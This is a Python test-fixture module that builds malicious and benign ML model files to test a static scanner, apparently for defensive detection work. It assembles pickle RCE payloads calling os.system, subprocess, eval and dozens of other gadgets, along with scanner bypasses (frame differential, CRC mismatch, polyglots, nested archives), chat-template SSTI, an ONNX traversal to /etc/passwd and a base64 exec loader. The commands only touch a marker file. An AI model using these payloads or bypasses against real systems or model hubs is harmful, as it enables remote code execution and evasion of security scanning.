"""The static-scan corpus: malicious and benign model files rebuilt at test time (nothing large lives in git).

Malicious samples are rebuilt from the test suites and bypass reports of picklescan, modelscan, fickling and
ModelAudit and from the classes in issue 12. Every payload is written opcode by opcode (or as inert data for
formats that are not pickles) and is never loaded; if one ever ran it would only `touch` the corpus' marker
file, which the tests assert never appears. Benign samples are what real repositories carry (state dicts,
training_args.bin, rng_state.pth, optimizer states, sparse tensors, scikit-learn via joblib, numpy arrays,
ONNX/Keras/GGUF files, ordinary chat templates).

    samples = build_corpus(tmp_path / "corpus")   # -> list[Sample]; each sample is one model folder
"""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import struct
import sys
import tarfile
import zipfile
import zlib
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))
import hostile_pickles as hp  # noqa: E402  (tests/ is not a package everywhere)

MARKER_NAME = "PWNED"
P = hp.proto
STOP, REDUCE, TUPLE1, TUPLE2, MARK, TUPLE = hp.STOP, hp.REDUCE, hp.TUPLE1, hp.TUPLE2, hp.MARK, hp.TUPLE
BUILD, NEWOBJ, NEWOBJ_EX, OBJ, EMPTY_DICT, EMPTY_TUPLE = b"b", b"\x81", b"\x92", b"o", b"}", b")"


@dataclass
class Sample:
    """One model folder: `files` relative path -> bytes; `main` the file peers are pointed at."""

    name: str
    malicious: bool
    category: str
    source: str
    files: dict[str, bytes]
    main: str
    folder: Path = field(default=Path())

    @property
    def path(self) -> Path:
        return self.folder / self.main


# --------------------------------------------------------------------------------------------------- payloads


def sglobal(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4: dotted names are resolved attribute by attribute)."""
    return hp.text(module) + hp.text(name) + b"\x93"


def call_pickle(module: str, name: str, *args: str, protocol: int = 2) -> bytes:
    """`module.name(*args)` as a pickle of the given protocol (0/1 text GLOBAL, 4/5 framed STACK_GLOBAL)."""
    if protocol == 0:
        body = (
            b"c"
            + module.encode()
            + b"\n"
            + name.encode()
            + b"\n("
            + b"".join(b"V" + a.encode("raw_unicode_escape") + b"\n" for a in args)
            + b"tR."
        )
        return body
    if protocol == 1:
        return hp.glob(module, name) + MARK + b"".join(hp.text(a) for a in args) + TUPLE + REDUCE + STOP
    func = sglobal(module, name) if protocol >= 4 else hp.glob(module, name)
    body = func + MARK + b"".join(hp.text(a) for a in args) + TUPLE + REDUCE + STOP
    return P(protocol) + (hp.frame(body) if protocol >= 4 else body)


def cmd(marker: Path) -> str:
    return f"touch {marker}"


def frame_differential(marker: Path, opcode: bytes = b"X") -> bytes:
    """Issue 12: a counted argument whose length runs past the FRAME end. pickletools reads the frame tail as
    the argument and then `0 N .` (POP, NONE, STOP). The C unpickler (pickle.load, torch.load) drops the frame
    tail for a BINUNICODE (`X`, read with _Unpickler_Read), takes the bytes after the frame as the argument and
    then runs `GLOBAL os system` + REDUCE; the pure-Python unpickler raises. (For BINBYTES, `B`, the C
    unpickler reads the data with ReadInto, linearly: pickletools and C agree and only pickle._Unpickler
    disagrees, still a finding.)"""
    tail = b"0N."  # what pickletools sees after the argument (and what the C unpickler takes as data)
    hidden = b"0" + hp.glob("os", "system") + MARK + hp.text(cmd(marker)) + TUPLE + REDUCE + STOP
    k = len(tail)
    n = k + 8
    frame_body = b"N" + opcode + struct.pack("<I", n) + b"\x00" * k
    after = b"\x00" * (n - k) + tail + hidden  # C: n data bytes = zeros + tail; then `hidden`
    return P(4) + b"\x95" + struct.pack("<Q", len(frame_body)) + frame_body + after


def torch_state_bytes(legacy: bool = False) -> bytes:
    import torch

    buffer = io.BytesIO()
    state = OrderedDict(weight=torch.arange(6, dtype=torch.float32).reshape(2, 3), bias=torch.zeros(2))
    torch.save(state, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def torch_zip_with(payload: bytes, member: str = "data.pkl", extra: dict[str, bytes] | None = None) -> bytes:
    return hp.replace_zip_member(torch_state_bytes(), member, payload, extra)


def crc_mismatch_zip(payload: bytes) -> bytes:
    """A torch zip whose data.pkl CRC-32 is wrong (torch ignores it; zipfile-based scanners stop)."""
    raw = bytearray(torch_zip_with(payload))
    with zipfile.ZipFile(io.BytesIO(bytes(raw))) as archive:
        info = next(i for i in archive.infolist() if i.filename.endswith("data.pkl"))
    bad = struct.pack("<I", (info.CRC ^ 0xDEADBEEF) & 0xFFFFFFFF)
    raw[info.header_offset + 14 : info.header_offset + 18] = bad  # local header
    offset = 0
    while (central := bytes(raw).find(b"PK\x01\x02", offset)) >= 0:
        (name_len,) = struct.unpack_from("<H", raw, central + 28)
        if bytes(raw[central + 46 : central + 46 + name_len]).endswith(b"data.pkl"):
            raw[central + 16 : central + 20] = bad
        offset = central + 4
    return bytes(raw)


class _Reducer:
    """Pickles as `os.system(command)` (pickling only names the function; nothing runs)."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return os.system, (self.command,)


def joblib_object_array(marker: Path) -> bytes:
    """joblib.dump of an object array whose element reduces to os.system: joblib writes the array as a nested
    pickle after the wrapper's BUILD, and NumpyUnpickler pickle.load()s it."""
    import joblib
    import numpy as np

    array = np.empty(1, dtype=object)
    array[0] = _Reducer(cmd(marker))
    buffer = io.BytesIO()
    joblib.dump({"w": np.arange(3.0), "o": array}, buffer)
    return buffer.getvalue()


def npy_object(payload: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode("latin-1") + payload


def npy_numeric() -> bytes:
    import numpy as np

    buffer = io.BytesIO()
    np.save(buffer, np.arange(12, dtype=np.float32).reshape(3, 4))
    return buffer.getvalue()


def zip_of(members: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def tar_of(members: dict[str, bytes], mode: str = "w:") -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=mode) as archive:  # type: ignore[call-overload]
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


def seven_zip_of(members: dict[str, bytes]) -> bytes:
    import py7zr

    out = io.BytesIO()
    with py7zr.SevenZipFile(out, "w") as archive:
        for name, data in members.items():
            archive.writestr(data, name)
    return out.getvalue()


def safetensors_file() -> bytes:
    header = json.dumps({"w": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]}}).encode()
    return struct.pack("<Q", len(header)) + header + b"\x00" * 8


def h5_model(config: dict) -> bytes:
    import h5py

    out = io.BytesIO()
    with h5py.File(out, "w") as h5:
        h5.attrs["model_config"] = json.dumps(config)
        h5.attrs["keras_version"] = "2.15.0"
        h5.attrs["backend"] = "tensorflow"
        h5.create_dataset("model_weights/dense/kernel", data=[[0.0, 1.0]])
    return out.getvalue()


def keras_config(layers: list[dict]) -> dict:
    return {"class_name": "Sequential", "config": {"name": "seq", "layers": layers}}


def dense(name: str = "dense") -> dict:
    return {
        "module": "keras.layers",
        "class_name": "Dense",
        "config": {"name": name, "units": 2},
        "registered_name": None,
    }


def lambda_layer(marker: Path) -> dict:
    code = base64.b64encode(f"lambda x: __import__('os').system('{cmd(marker)}')".encode()).decode()
    return {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"name": "evil", "function": {"class_name": "__lambda__", "config": {"code": code}}},
        "registered_name": None,
    }


def keras_zip(config: dict) -> bytes:
    return zip_of(
        {
            "metadata.json": json.dumps({"keras_version": "3.8.0"}).encode(),
            "config.json": json.dumps(config).encode(),
            "model.weights.h5": b"",
        }
    )


def onnx_model(external_location: str | None = None, domain: str = "") -> bytes:
    from onnx import TensorProto, helper

    weight = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    if external_location is not None:
        weight.ClearField("float_data")
        weight.data_location = TensorProto.EXTERNAL
        entry = weight.external_data.add()
        entry.key, entry.value = "location", external_location
    node = helper.make_node("Add" if not domain else "EvilOp", ["x", "w"], ["y"], domain=domain)
    graph = helper.make_graph(
        [node],
        "g",
        [helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])],
        [helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])],
        [weight],
    )
    opsets = [helper.make_opsetid("", 17)] + ([helper.make_opsetid(domain, 1)] if domain else [])
    model = helper.make_model(graph, opset_imports=opsets)
    return model.SerializeToString()


def gguf_file(template: str, folder: Path) -> bytes:
    import numpy as np
    from gguf import GGUFWriter

    path = folder / "_tmp.gguf"
    path.parent.mkdir(parents=True, exist_ok=True)
    writer = GGUFWriter(str(path), "llama")
    writer.add_string("tokenizer.chat_template", template)
    writer.add_tensor("w", np.zeros(4, dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()
    data = path.read_bytes()
    path.unlink()
    return data


def torchscript_bytes(inject: str | None = None) -> bytes:
    import torch

    class Tiny(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x + 1

    buffer = io.BytesIO()
    torch.jit.save(torch.jit.script(Tiny()), buffer)
    raw = buffer.getvalue()
    if inject is None:
        return raw
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(raw)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            if "/code/" in info.filename and info.filename.endswith(".py"):
                data += f"\n# {inject}\n".encode()
            dst.writestr(info.filename, data)
    return out.getvalue()


LLAMA3_TEMPLATE = (
    "{%- set ns = namespace(found=false) -%}{{- bos_token }}{%- for message in messages %}"
    "{{- '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n' + message['content'] | trim "
    "+ '<|eot_id|>' }}{%- endfor %}{%- if add_generation_prompt %}"
    "{{- '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{%- endif %}"
)


def ssti(marker: Path) -> str:
    return (
        "{% for m in messages %}{{ m['content'] }}{% endfor %}"
        f"{{{{ cycler.__init__.__globals__.os.popen('{cmd(marker)}').read() }}}}"
    )


# --------------------------------------------------------------------------------------------------- the corpus

# (module, name, args, source): calls that run code, touch files or the network when unpickled.
GADGETS: list[tuple[str, str, tuple[str, ...], str]] = [
    ("os", "system", ("{cmd}",), "picklescan tests malicious1 / modelscan os.system"),
    ("posix", "system", ("{cmd}",), "picklescan malicious1 (posix)"),
    ("nt", "system", ("{cmd}",), "picklescan malicious1 (nt)"),
    ("os", "popen", ("{cmd}",), "fickling tests"),
    ("os", "execlp", ("touch", "touch", "{marker}"), "ModelAudit os.exec*"),
    ("subprocess", "Popen", ("{cmd}",), "picklescan malicious4"),
    ("subprocess", "check_output", ("{cmd}",), "modelscan subprocess"),
    ("subprocess", "run", ("{cmd}",), "ModelAudit subprocess"),
    ("builtins", "eval", ("__import__('os').system('{cmd}')",), "picklescan malicious0"),
    ("builtins", "exec", ("__import__('os').system('{cmd}')",), "picklescan malicious6"),
    ("builtins", "compile", ("__import__('os').system('{cmd}')", "x", "exec"), "fickling builtins"),
    ("builtins", "open", ("{marker}", "w"), "modelscan builtins.open"),
    ("__builtin__", "eval", ("__import__('os').system('{cmd}')",), "picklescan __builtin__ (py2 names)"),
    ("io", "open", ("{marker}", "w"), "ModelAudit io.open"),
    ("_io", "FileIO", ("{marker}", "w"), "picklescan _io.FileIO"),
    ("codecs", "open", ("{marker}", "w"), "ModelAudit codecs.open"),
    ("runpy", "_run_code", ("__import__('os').system('{cmd}')", "{{}}"), "picklescan malicious5"),
    ("runpy", "run_path", ("{marker}",), "ModelAudit runpy"),
    ("code", "InteractiveInterpreter.runcode", ("x",), "2025 bypass: code module"),
    ("pty", "spawn", ("touch",), "picklescan malicious8 pty"),
    ("webbrowser", "open", ("http://localhost/{marker}",), "picklescan malicious2"),
    ("socket", "create_connection", ("localhost",), "picklescan malicious7"),
    ("http.client", "HTTPConnection", ("localhost",), "modelscan httplib"),
    ("urllib.request", "urlopen", ("http://localhost/",), "ModelAudit urllib"),
    ("requests", "get", ("http://localhost/",), "picklescan requests"),
    ("ftplib", "FTP", ("localhost",), "ModelAudit network clients"),
    ("smtplib", "SMTP", ("localhost",), "ModelAudit network clients"),
    ("xmlrpc.client", "ServerProxy", ("http://localhost/",), "ModelAudit network clients"),
    ("pickle", "loads", ("x",), "picklescan nested pickle.loads"),
    ("_pickle", "loads", ("x",), "picklescan _pickle"),
    ("dill", "loads", ("x",), "ModelAudit dill"),
    ("marshal", "loads", ("x",), "fickling marshal"),
    ("numpy", "load", ("{marker}",), "picklescan numpy.load"),
    (
        "numpy.testing._private.utils",
        "runstring",
        ("__import__('os').system('{cmd}')", "{{}}"),
        "picklescan numpy runstring",
    ),
    ("torch", "load", ("{marker}",), "picklescan torch.load"),
    ("torch.serialization", "load", ("{marker}",), "picklescan torch.serialization.load"),
    ("torch.hub", "load", ("x", "y"), "picklescan torch.hub"),
    ("joblib", "load", ("{marker}",), "ModelAudit joblib.load"),
    ("pkgutil", "resolve_name", ("os:system",), "2025 bypass: string-to-callable resolver"),
    ("importlib", "import_module", ("os",), "2025 bypass: importlib"),
    ("pydoc", "locate", ("os.system",), "picklescan issue: pydoc.locate"),
    ("pydoc", "pipepager", ("x", "{cmd}"), "2025 bypass: pydoc.pipepager"),
    ("operator", "attrgetter", ("system",), "2025 bypass: operator wrappers"),
    ("operator", "methodcaller", ("system", "{cmd}"), "2025 bypass: operator.methodcaller"),
    ("functools", "partial", ("x",), "2025 bypass: functools wrappers"),
    ("functools", "reduce", ("x", "y"), "2025 bypass: functools.reduce"),
    ("profile", "run", ("__import__('os').system('{cmd}')",), "2025 bypass: profilers (profile.run)"),
    ("cProfile", "run", ("__import__('os').system('{cmd}')",), "2025 bypass: cProfile.run"),
    ("cProfile", "runctx", ("__import__('os').system('{cmd}')", "{{}}", "{{}}"), "2025 bypass: cProfile.runctx"),
    ("trace", "Trace.runctx", ("x",), "2025 bypass: trace"),
    ("pdb", "run", ("__import__('os').system('{cmd}')",), "picklescan pdb"),
    ("bdb", "Bdb.run", ("__import__('os').system('{cmd}')",), "picklescan malicious9 bdb"),
    ("timeit", "timeit", ("__import__('os').system('{cmd}')",), "2025 bypass: timeit"),
    ("doctest", "debug_script", ("__import__('os').system('{cmd}')",), "2025 bypass: doctest"),
    ("idlelib.pyshell", "ModifiedInterpreter.runcode", ("x",), "2025 bypass: idlelib"),
    ("lib2to3.pgen2.grammar", "Grammar.load", ("{marker}",), "2025 bypass: lib2to3 (pickle load)"),
    ("pip", "main", ("install", "x"), "picklescan pip.main"),
    ("ensurepip", "_run_pip", ("install", "x"), "2025 bypass: ensurepip"),
    ("venv", "create", ("{marker}",), "2025 bypass: venv"),
    ("logging.config", "listen", ("9999",), "2025 bypass: logging handlers"),
    ("logging.handlers", "SocketHandler", ("localhost", "9999"), "2025 bypass: logging handlers"),
    ("torch._dynamo.guards", "GuardBuilder.get", ("x",), "2025 bypass: torch._dynamo gadget"),
    ("torch._inductor.codecache", "compile_file", ("x", "y", "z"), "2025 bypass: torch._inductor"),
    (
        "torch.fx.experimental.symbolic_shapes",
        "ShapeEnv.evaluate_guards_expression",
        ("x", "y"),
        "2025 bypass: torch.fx eval",
    ),
    (
        "torch.jit.unsupported_tensor_ops",
        "execWrapper",
        ("__import__('os').system('{cmd}')", "{{}}", "{{}}"),
        "2025 bypass: torch.jit exec",
    ),
    ("torch.utils.collect_env", "run", ("{cmd}",), "2025 bypass: torch.utils.collect_env.run"),
    ("torch.utils.bottleneck.__main__", "run_cprofile", ("x", "y"), "2025 bypass: torch.utils.bottleneck"),
    ("ctypes", "CDLL", ("libc.so.6",), "ModelAudit ctypes"),
    ("shutil", "rmtree", ("{marker}",), "ModelAudit shutil"),
    ("asyncio.subprocess", "create_subprocess_shell", ("{cmd}",), "picklescan asyncio submodule"),
    ("asyncio.unix_events", "_UnixSubprocessTransport", ("x",), "CVE-2025-10157 submodule of a dangerous module"),
    ("_osx_support", "_read_output", ("{cmd}",), "picklescan bypass: _osx_support._read_output"),
    ("_aix_support", "_read_cmd_output", ("{cmd}",), "picklescan bypass: _aix_support"),
    ("uuid", "_get_command_stdout", ("touch", "{marker}"), "picklescan bypass: uuid._get_command_stdout"),
    ("platform", "_syscmd_file", ("{marker}",), "unlisted stdlib gadget (platform)"),
    ("pandas.io.pickle", "read_pickle", ("{marker}",), "unlisted loader: pandas.read_pickle"),
    ("yaml", "unsafe_load", ("!!python/object/apply:os.system ['{cmd}']",), "unlisted loader: yaml.unsafe_load"),
    ("jsonpickle", "decode", ("x",), "unlisted loader: jsonpickle"),
    ("keras.utils", "get_file", ("x", "http://localhost/"), "unlisted downloader: keras.utils.get_file"),
    ("huggingface_hub", "snapshot_download", ("x",), "ModelAudit: hub downloader"),
    (
        "transformers.dynamic_module_utils",
        "get_class_from_dynamic_module",
        ("x", "y"),
        "ModelAudit: remote-code loader",
    ),
    ("_pyrepl.pager", "pipe_pager", ("x", "{cmd}"), "2025 bypass: _pyrepl pager"),
    ("numpy.f2py", "compile", ("x",), "picklescan numpy.f2py"),
    ("torch.utils._config_module", "ConfigModule.load_config", ("x",), "unlisted torch gadget"),
    ("__main__", "Exploit", ("x",), "modelscan: a class of the dumping script"),
]


def build_corpus(root: Path) -> list[Sample]:
    """Write every sample folder under `root` (payloads aimed at `root / PWNED`); returns the samples."""
    root.mkdir(parents=True, exist_ok=True)
    marker = root / MARKER_NAME
    c = cmd(marker)
    samples: list[Sample] = []

    def add(
        name: str, malicious: bool, category: str, source: str, files: dict[str, bytes], main: str | None = None
    ) -> None:
        samples.append(Sample(name, malicious, category, source, files, main or next(iter(files))))

    def fill(args: tuple[str, ...]) -> tuple[str, ...]:
        return tuple(a.format(cmd=c, marker=marker).replace("{{}}", "{}") for a in args)

    # 1. every gadget as a raw pickle (protocol 4 when the name is dotted)
    for module, name, args, source in GADGETS:
        protocol = 4 if "." in name else 2
        slug = f"{module}.{name}".replace(".", "_").replace("__", "_")
        add(
            f"gadget-{slug}",
            True,
            "pickle-gadget",
            source,
            {"model.pkl": call_pickle(module, name, *fill(args), protocol=protocol)},
        )

    os_payload = call_pickle("os", "system", c)
    # 2. opcode variants
    variants: dict[str, tuple[bytes, str]] = {
        "proto0-global": (call_pickle("os", "system", c, protocol=0), "picklescan malicious1_v0"),
        "proto1": (call_pickle("os", "system", c, protocol=1), "picklescan protocol 1"),
        "proto3": (call_pickle("os", "system", c, protocol=3), "picklescan malicious1_v3"),
        "proto4-stack-global": (call_pickle("os", "system", c, protocol=4), "picklescan malicious1_v4"),
        "proto5-stack-global": (call_pickle("os", "system", c, protocol=5), "fickling protocol 5"),
        "inst": (hp.protocol0_inst(marker), "fickling INST"),
        "obj": (P(2) + MARK + hp.glob("os", "system") + hp.text(c) + OBJ + STOP, "fickling OBJ"),
        "newobj": (P(2) + hp.glob("subprocess", "Popen") + hp.text(c) + TUPLE1 + NEWOBJ + STOP, "fickling NEWOBJ"),
        "newobj-ex": (
            P(4) + sglobal("subprocess", "Popen") + hp.text(c) + TUPLE1 + EMPTY_DICT + NEWOBJ_EX + STOP,
            "fickling NEWOBJ_EX",
        ),
        "build-setstate": (
            P(2) + hp.glob("__main__", "Payload") + EMPTY_TUPLE + NEWOBJ + EMPTY_DICT + BUILD + STOP,
            "issue 12: BUILD with __setstate__ of an unknown class",
        ),
        "getattr-chain": (hp.getattr_chain(marker), "picklescan getattr bypass"),
        "stack-global-memo": (hp.stack_global_via_memo(marker), "fickling memo decoys"),
        "stack-global-rot13": (hp.stack_global_computed(marker), "2025 bypass: computed STACK_GLOBAL operands"),
        "dotted-torch-utils-os": (hp.dotted_traversal(marker), "2025 bypass: dotted STACK_GLOBAL names"),
        "dotted-collections-globals": (
            P(4) + sglobal("collections", "OrderedDict.__init__.__globals__") + STOP,
            "2025 bypass: dunder attribute chain",
        ),
        "numpy-builtins": (
            P(4) + sglobal("numpy", "__builtins__") + hp.text("eval") + TUPLE1 + REDUCE + STOP,
            "2025 bypass: numpy.__builtins__",
        ),
        "ext1": (hp.extension_code(), "2025 bypass: EXT1 copyreg"),
        "ext2": (P(2) + b"\x83\x01\x01" + EMPTY_TUPLE + REDUCE + STOP, "2025 bypass: EXT2 copyreg"),
        "ext4": (P(2) + b"\x84\x01\x00\x01\x00" + EMPTY_TUPLE + REDUCE + STOP, "2025 bypass: EXT4 copyreg"),
        "frame-differential": (frame_differential(marker), "issue 12: BINUNICODE across a FRAME end"),
        "frame-differential-binbytes": (
            frame_differential(marker, b"B"),
            "issue 12: BINBYTES across a FRAME end (pure-Python unpickler disagrees)",
        ),
        "second-pickle": (P(2) + EMPTY_DICT + STOP + os_payload, "modelscan: payload in a second pickle"),
    }
    for name, (payload, source) in variants.items():
        add(f"opcode-{name}", True, "pickle-opcodes", source, {"pytorch_model.bin": payload})

    # 3. containers and names
    containers: dict[str, tuple[dict[str, bytes], str]] = {
        "torch-zip-data-pkl": ({"pytorch_model.bin": torch_zip_with(os_payload)}, "modelscan PyTorch zip"),
        "torch-zip-frame-differential": (
            {"pytorch_model.bin": torch_zip_with(frame_differential(marker))},
            "issue 12: differential inside torch.load's data.pkl",
        ),
        "torch-zip-crc-mismatch": (
            {"pytorch_model.bin": crc_mismatch_zip(os_payload)},
            "CVE-2025-10156 (picklescan CRC bypass)",
        ),
        "torch-zip-named-h5": ({"model.h5": torch_zip_with(os_payload)}, "issue 12: torch zip named model.h5"),
        "torch-zip-extra-member": (
            {
                "pytorch_model.bin": torch_zip_with(
                    hp.proto(2) + hp.EMPTY_DICT + STOP, extra={"archive/extra.pkl": os_payload}
                )
            },
            "ModelAudit: second .pkl member",
        ),
        "torch-zip-hidden-member": (
            {
                "pytorch_model.bin": torch_zip_with(
                    hp.proto(2) + hp.EMPTY_DICT + STOP, extra={"archive/blob": os_payload}
                )
            },
            "ModelAudit: pickle member without .pkl name",
        ),
        "torch-zip-nested": (
            {
                "pytorch_model.bin": torch_zip_with(
                    hp.proto(2) + hp.EMPTY_DICT + STOP, extra={"archive/inner.zip": zip_of({"data.pkl": os_payload})}
                )
            },
            "ModelAudit: nested archive",
        ),
        "torch-legacy-appended": (
            {"pytorch_model.bin": torch_state_bytes(legacy=True) + os_payload},
            "fickling: appended to a legacy checkpoint",
        ),
        "torch-tar-legacy": ({"pytorch_model.bin": hp.legacy_tar(os_payload)}, "picklescan: pre-1.0 tar"),
        "pickle-named-onnx": ({"model.onnx": os_payload}, "issue 12: a pickle named model.onnx"),
        "pickle-named-safetensors": ({"model.safetensors": os_payload}, "ModelAudit: extension mismatch"),
        "pickle-named-json": ({"weights.json": os_payload, "config.json": b"{}"}, "extension mismatch (text)"),
        "pickle-unknown-extension": ({"model.weights": os_payload}, "CVE-2025-10155 (extension bypass)"),
        "protocol0-sav": (
            {"model.sav": call_pickle("os", "system", c, protocol=0)},
            "issue 12: protocol-0 pickle named model.sav",
        ),
        "protocol0-word2vec": (
            {"word2vec.model": call_pickle("os", "system", c, protocol=0)},
            "issue 12: word2vec.model (gensim pickle)",
        ),
        "dill-file": ({"model.dill": os_payload}, "ModelAudit dill"),
        "joblib-zlib": ({"model.joblib": zlib.compress(os_payload)}, "ModelAudit: compressed joblib"),
        "pickle-gzip": ({"model.pkl.gz": gzip.compress(os_payload)}, "picklescan: gzip"),
        "pickle-bz2": ({"model.pkl.bz2": bz2.compress(os_payload)}, "compressed pickle"),
        "pickle-xz": ({"model.pkl.xz": lzma.compress(os_payload)}, "compressed pickle"),
        "npy-object-array": ({"array.npy": npy_object(os_payload)}, "picklescan: numpy object array"),
        "npz-object-array": ({"arrays.npz": zip_of({"a.npy": npy_object(os_payload)})}, "picklescan: npz"),
        "zip-of-pickle": (
            {"model.zip": zip_of({"model.pkl": os_payload}, zipfile.ZIP_DEFLATED)},
            "picklescan: zip archive",
        ),
        "tar-of-pickle": ({"model.tar": tar_of({"model.pkl": os_payload})}, "ModelAudit: tar archive"),
        "tgz-of-pickle": ({"model.tar.gz": tar_of({"model.pkl": os_payload}, "w:gz")}, "ModelAudit: tar.gz"),
        "7z-of-pickle": ({"model.7z": seven_zip_of({"model.pkl": os_payload})}, "picklescan: 7z"),
        "zip-junk-prefix": (
            {"pytorch_model.bin": b"JUNK" * 64 + torch_zip_with(os_payload)},
            "ModelAudit: junk before the zip",
        ),
        "polyglot-pickle-zip": (
            {"model.bin": P(2) + EMPTY_DICT + STOP + zip_of({"archive/data.pkl": os_payload})},
            "fickling polyglot",
        ),
        "zip-path-traversal": (
            {"model.zip": zip_of({"../../evil.sh": b"touch x\n", "model.pkl": P(2) + b"N."})},
            "ModelAudit: archive path traversal",
        ),
        "zip-bomb": (
            {"model.zip": zip_of({"weights.bin": b"\x00" * (40 * 1024**2)}, zipfile.ZIP_DEFLATED)},
            "ModelAudit: decompression bomb",
        ),
        "elf-named-bin": ({"pytorch_model.bin": b"\x7fELF\x02\x01\x01" + b"\x00" * 57}, "ModelAudit: ELF as weights"),
    }
    for name, (files, source) in containers.items():
        add(f"container-{name}", True, "containers", source, files)

    add(
        "joblib-object-array-payload",
        True,
        "containers",
        "ModelAudit: joblib object array (nested pickle.load)",
        {"model.joblib": joblib_object_array(marker)},
    )

    # 4. other formats
    add(
        "keras-h5-lambda",
        True,
        "keras",
        "modelscan: Keras Lambda (h5)",
        {"model.h5": h5_model(keras_config([dense(), lambda_layer(marker)]))},
    )
    add(
        "keras-v3-lambda",
        True,
        "keras",
        "modelscan: Keras Lambda (.keras)",
        {"model.keras": keras_zip(keras_config([dense(), lambda_layer(marker)]))},
    )
    add(
        "keras-v3-module-os",
        True,
        "keras",
        "CVE-2025-1550: config.json module import",
        {
            "model.keras": keras_zip(
                keras_config(
                    [dense(), {"module": "os", "class_name": "system", "config": {"name": c}, "registered_name": None}]
                )
            )
        },
    )
    add(
        "onnx-external-escape",
        True,
        "onnx",
        "ModelAudit: ONNX external data path traversal",
        {"model.onnx": onnx_model(external_location="../../../../etc/passwd")},
    )
    add(
        "gguf-template-ssti",
        True,
        "templates",
        "CVE-2024-34359 (llama-cpp-python chat template SSTI)",
        {"model.gguf": gguf_file(ssti(marker), root / "_gguf")},
    )
    add(
        "tokenizer-config-ssti",
        True,
        "templates",
        "ModelAudit: chat template injection",
        {
            "model.safetensors": safetensors_file(),
            "tokenizer_config.json": json.dumps({"chat_template": ssti(marker)}).encode(),
        },
        "tokenizer_config.json",
    )
    add(
        "chat-template-jinja-ssti",
        True,
        "templates",
        "chat_template.jinja injection",
        {
            "model.safetensors": safetensors_file(),
            "chat_template.jinja": b"{{ self.__init__.__globals__.__builtins__.__import__('os').popen('x') }}",
        },
        "chat_template.jinja",
    )
    add(
        "torchscript-load-library",
        True,
        "torchscript",
        "ModelAudit: TorchScript custom op library",
        {"model.pt": torchscript_bytes(inject="torch.ops.load_library('evil.so')")},
    )
    add(
        "repo-start-bat",
        True,
        "repo",
        "2026 hub incident: start.bat beside clean weights",
        {"model.safetensors": safetensors_file(), "start.bat": f"@echo off\r\n{c}\r\n".encode()},
        "start.bat",
    )
    add(
        "repo-loader-py-auto-map",
        True,
        "repo",
        "2026 hub incident: loader.py referenced by auto_map",
        {
            "model.safetensors": safetensors_file(),
            "loader.py": b"import os\nos.system('x')\n",
            "config.json": json.dumps({"model_type": "bert", "auto_map": {"AutoModel": "loader.EvilModel"}}).encode(),
        },
        "loader.py",
    )
    add(
        "repo-stray-loader-py",
        True,
        "repo",
        "2026 hub incident: a stray loader.py users are told to run",
        {
            "model.safetensors": safetensors_file(),
            "loader.py": b"import base64, os\nexec(base64.b64decode('b3Muc3lzdGVtKCd0b3VjaCB4Jyk='))\n",
        },
        "loader.py",
    )
    add(
        "repo-exe",
        True,
        "repo",
        "stray Windows executable",
        {
            "model.safetensors": safetensors_file(),
            "setup.exe": b"MZ" + b"\x00" * 58 + struct.pack("<I", 64) + b"PE\x00\x00" + b"\x00" * 64,
        },
        "setup.exe",
    )
    add(
        "repo-shared-library",
        True,
        "repo",
        "stray native library",
        {"model.safetensors": safetensors_file(), "libcustom.so": b"\x7fELF\x02\x01\x01" + b"\x00" * 57},
        "libcustom.so",
    )
    add(
        "repo-shell-script",
        True,
        "repo",
        "stray shell script",
        {"model.safetensors": safetensors_file(), "install.sh": f"#!/bin/sh\n{c}\n".encode()},
        "install.sh",
    )

    # 5. benign: what real repositories carry
    add_benign(samples, root)
    for sample in samples:
        sample.folder = root / sample.name
        for rel, data in sample.files.items():
            path = sample.folder / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
    return samples


def _benign_builders(root: Path) -> dict[str, tuple[Callable[[], dict[str, bytes]], str]]:
    import pickle
    import random

    import numpy as np
    import torch

    def torch_save(obj: object, legacy: bool = False) -> bytes:
        buffer = io.BytesIO()
        torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
        return buffer.getvalue()

    def training_args() -> dict[str, bytes]:
        from transformers import TrainingArguments

        args = TrainingArguments(output_dir=str(root / "_out"), report_to=[])
        return {"training_args.bin": torch_save(args)}

    def rng_state() -> dict[str, bytes]:
        state = {"python": random.getstate(), "numpy": np.random.get_state(), "cpu": torch.random.get_rng_state()}
        return {"rng_state.pth": torch_save(state)}

    def optimizer() -> dict[str, bytes]:
        model = torch.nn.Linear(2, 2)
        opt = torch.optim.AdamW(model.parameters())
        model(torch.ones(1, 2)).sum().backward()
        opt.step()
        sched = torch.optim.lr_scheduler.StepLR(opt, 1)
        return {"optimizer.pt": torch_save(opt.state_dict()), "scheduler.pt": torch_save(sched.state_dict())}

